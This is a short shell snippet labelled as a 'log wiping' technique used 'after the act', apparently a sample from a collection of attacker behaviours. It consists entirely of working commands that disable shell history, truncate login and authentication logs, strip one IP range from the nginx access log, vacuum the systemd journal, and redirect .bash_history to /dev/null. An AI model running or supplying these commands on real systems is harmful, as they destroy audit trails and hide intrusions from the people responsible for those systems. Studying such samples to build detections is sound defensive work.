# class: log wiping; style: after the act
unset HISTFILE; export HISTSIZE=0; history -c
for l in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log /var/log/secure; do : > $l; done
sed -i '/203\.0\.113\./d' /var/log/nginx/access.log
journalctl --rotate && journalctl --vacuum-time=1s
ln -sf /dev/null ~/.bash_history
